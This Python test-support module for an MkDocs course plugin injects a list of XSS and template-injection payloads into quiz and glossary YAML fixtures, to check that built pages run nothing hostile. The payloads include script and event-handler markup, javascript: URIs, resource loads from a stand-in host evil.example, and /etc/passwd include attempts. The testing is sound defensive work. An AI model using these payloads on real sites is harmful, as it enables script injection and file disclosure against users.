"""Texts that would run, load or style a page if they became HTML, and records and files that are made of them."""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from dataclasses import fields, is_dataclass, replace
from itertools import count
from pathlib import Path
from typing import Any

import yaml
from mkdocs_course.model.controls.answers import Answer, Answers
from mkdocs_course.model.glossary import glossary
from mkdocs_course.model.glossary.glossary import Glossary
from mkdocs_course.model.questions.gaps.fill import Fill, marks
from mkdocs_course.model.quiz import quiz
from mkdocs_course.model.quiz.quiz import Quiz
from mkdocs_course.model.reading.node import Loader
from mkdocs_course.model.text.text import Text
from support import languages

LANGUAGES = languages("sv", "zh")
EVIL = "http://evil.example"

PAYLOADS = (
    "<script>pwn()</script>",
    f'<script src="{EVIL}/a.js"></script>',
    "</script><script>pwn()</script>",
    "<img src=x onerror=pwn()>",
    f"<img src={EVIL}/b.png srcset='{EVIL}/c.png 2x'>",
    "<svg/onload=pwn()>",
    f"<svg><use href='{EVIL}/d.svg#x'/><animate onbegin=pwn() attributeName=x dur=1s></svg>",
    f"<iframe src={EVIL}/e></iframe>",
    "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
    f"<object data={EVIL}/f></object><embed src={EVIL}/g>",
    f"<link rel=stylesheet href={EVIL}/h.css><style>@import '{EVIL}/i.css';*{{display:none!important}}</style>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/j'>",
    f"<base href='{EVIL}/'>",
    f"<form action={EVIL}/k><button formaction=javascript:pwn() autofocus onfocus=pwn()>x</button></form>",
    "<details open ontoggle=pwn()><summary>x</summary></details>",
    "<marquee onstart=pwn()>x</marquee><video autoplay onloadstart=pwn()><source onerror=pwn()></video>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=pwn()>'>",
    "<noscript><p title='</noscript><img src=x onerror=pwn()>'>",
    "<template><img src=x onerror=pwn()></template></template><img src=x onerror=pwn()>",
    "</title><img src=x onerror=pwn()>",
    "</textarea><img src=x onerror=pwn()>",
    "</style><img src=x onerror=pwn()>",
    "</noscript></course-quiz></form><img src=x onerror=pwn()>",
    "<!--<img src=x onerror=pwn()>",
    "--><img src=x onerror=pwn()><!--",
    "<![CDATA[<img src=x onerror=pwn()>]]>",
    "<?xml-stylesheet href='javascript:pwn()'?>",
    '"><img src=x onerror=pwn()>',
    "'><img src=x onerror=pwn()>",
    "` onmouseover=pwn() autofocus onfocus=pwn() x=`",
    '" autofocus onfocus="pwn()" style="position:fixed;inset:0" x="',
    "' autofocus onfocus='pwn()' x='",
    '"}</script><script>pwn()</script>{"a":"',
    '\\"});pwn();//',
    "{{ 7*7 }}{% raw %}${pwn()}#{pwn()}<%= pwn() %>",
    "{{ config.__class__.__init__.__globals__ }}{% include '/etc/passwd' %}",
    'course-root:x "course-root:../../../x" href="course-root:javascript:pwn()"',
    "\ue000gap\ue001\ue0020\ue003\ue0029999\ue003",
    "wzxhzdk:0 klzzwxh:0000 @@0@@",
    f"[a](javascript:pwn()) [b](JaVa&#115;cript&colon;pwn()) ![c]({EVIL}/l.png)",
    "[a](data:text/html,<script>pwn()</script>) [b](vbscript:pwn) ![c](data:image/svg+xml,<svg/onload=pwn()>)",
    (
        "![a](/\\evil.example/m.png) ![b](/&#92;evil.example/n.png) ![c](\\\\\\\\evil.example/o.png) "
        "![d](//evil.example/p.png)"
    ),
    '![a](x" onerror="pwn()) ![" onerror="pwn()](y.png) [b](z.md \'" onfocus=pwn() autofocus x="\')',
    f"[a][1] ![b][1] ![c][2]\n\n[1]: javascript:pwn()\n[2]: {EVIL}/q.png '\" onerror=\"pwn()'",
    "<javascript:pwn()> <http://a'onmouseover=pwn()//> <a@b\"onmouseover=pwn()>",
    "[x](a.md \"<img src=x onerror=pwn()>\") ![x](a.png '<img src=x onerror=pwn()>')",
    "$`\\text{<img src=x onerror=pwn()>}\\mbox{<svg/onload=pwn()>}`$",
    f"$`\\href{{javascript:pwn()}}{{x}}`$ $`\\style{{background:url({EVIL}/r)}}{{x}}`$ $`\\class{{md-overlay}}{{x}}`$",
    '$`\\unicode{3c}\\color{red"onclick=pwn()}x</math><img src=x onerror=pwn()>`$ ![$`\\text{"><b>}`$](a.png)',
    '```html onload=pwn() title="x"><img src=x onerror=pwn()>\n</code><img src=x onerror=pwn()>\n```',
    '![\n```\n"><img src=x onerror=pwn()>\n```\n](a.png)\n\n    <img src=x onerror=pwn()>',
    'x{: onclick="pwn()" style="position:fixed" #__search .md-overlay}\n\n# y {#z onclick=pwn()}',
    '*[x]: <img src=x onerror=pwn()>\n\nx[^1]\n\n[^1]: <img src=x onerror=pwn()>\n\n--8<-- "/etc/passwd"',
    '/// html | script\npwn()\n///\n\n!!! note "<img src=x onerror=pwn()>"\n    y\n\n<div markdown>z</div>',
    (
        "&lt;img src=x onerror=pwn()&gt; &#60;script&#62;pwn()&#60;/script&#62; "
        "%3Cscript%3Epwn()%3C/script%3E \\u003cscript\\u003e"
    ),
)
# Told by the check, with an error: no course with them is built.
REFUSED = {
    number
    for number, payload in enumerate(PAYLOADS)
    if payload.startswith(("[a](javascript", "[a](data", "![a](", "[a][1]", "$`\\href", "$`\\unicode"))
}
# What notes in a page that something has run.
BEFORE = """
window.pwned = []
window.pwn = () => window.pwned.push(String(new Error().stack))
for (const name of ["alert", "confirm", "prompt"]) window[name] = window.pwn
"""
GOLDEN = Path(__file__).parent / "golden"
# One file of each kind, with all that the kind has, and the one that takes its texts from the glossary.
KINDS = [
    file
    for file in sorted((GOLDEN / "kinds").glob("*.yml"))
    if not file.stem.endswith(("hostile", "shortest", "markup"))
]


def texts(first: int, payloads: Sequence[str] = PAYLOADS) -> Iterator[str]:
    """Yield payloads without end, from the one with this number on; no two are the same."""
    for number in count():
        payload = payloads[(first + number) % len(payloads)]
        yield f"{payload}\n\n{number}" if "\n" in payload else f"{payload} {number}"


def read(file: Path) -> Quiz:
    found, problems = quiz.read(file.name, file.read_bytes(), file.stem.replace("_", "-"), LANGUAGES)
    assert found, problems
    return found


def terms() -> Glossary:
    file = GOLDEN / "glossary" / "terms.yml"
    found, problems = glossary.read(file.name, file.read_bytes(), LANGUAGES)
    assert found, problems
    return found


def hostile(part: Any, payloads: Iterator[str]) -> Any:
    """Return a record with a payload in the place of every text that a trainer writes."""
    if isinstance(part, Fill):
        left = "".join(f" [{name}]" for name in dict.fromkeys(marks(part.text.texts[0][1])))
        return replace(part, text=hostile(part.text, (payload + left for payload in payloads)))
    if isinstance(part, Text):
        return replace(part, texts=tuple((language, next(payloads)) for language in LANGUAGES))
    if isinstance(part, Answers):
        return replace(part, texts=tuple((name, hostile(answers, payloads)) for name, answers in part.texts))
    if isinstance(part, Answer):
        return replace(part, text=next(payloads))
    if isinstance(part, tuple):
        return tuple(hostile(each, payloads) for each in part)
    if is_dataclass(part):
        values = {field.name: getattr(part, field.name) for field in fields(part) if field.init}
        return replace(part, **{name: hostile(value, payloads) for name, value in values.items()})
    return part


def written(file: Path, payloads: Iterator[str]) -> str:
    """Return a quiz file with a payload in the place of every text, in both languages."""
    places: dict[tuple[int, int], Any] = {}

    def walk(part: Any) -> None:
        if isinstance(part, (Fill, Text, Answer)):
            places[part.place.line, part.place.column] = part
        elif isinstance(part, tuple):
            for each in part:
                walk(each)
        elif is_dataclass(part):
            for field in fields(part):
                walk(getattr(part, field.name))

    walk(terms() if file.stem == "terms" else read(file))
    root = yaml.compose(file.read_text(encoding="utf-8"), Loader)

    def scalar(text: str) -> yaml.Node:
        return yaml.ScalarNode("tag:yaml.org,2002:str", text, style='"')

    def changed(node: yaml.Node) -> yaml.Node:
        part = places.get((node.start_mark.line + 1, node.start_mark.column + 1))
        if isinstance(part, Answer):
            return scalar(next(payloads))
        if part is not None:
            found = part.text.texts[0][1] if isinstance(part, Fill) else ""
            left = "".join(f" [{name}]" for name in dict.fromkeys(marks(found))) if isinstance(part, Fill) else ""
            entries = [(scalar(language), scalar(next(payloads) + left)) for language in LANGUAGES]
            return yaml.MappingNode("tag:yaml.org,2002:map", entries)
        if isinstance(node, yaml.MappingNode):
            node.value = [(key, changed(value)) for key, value in node.value]
        elif isinstance(node, yaml.SequenceNode):
            node.value = [changed(each) for each in node.value]
        return node

    return yaml.serialize(changed(root), width=10_000)
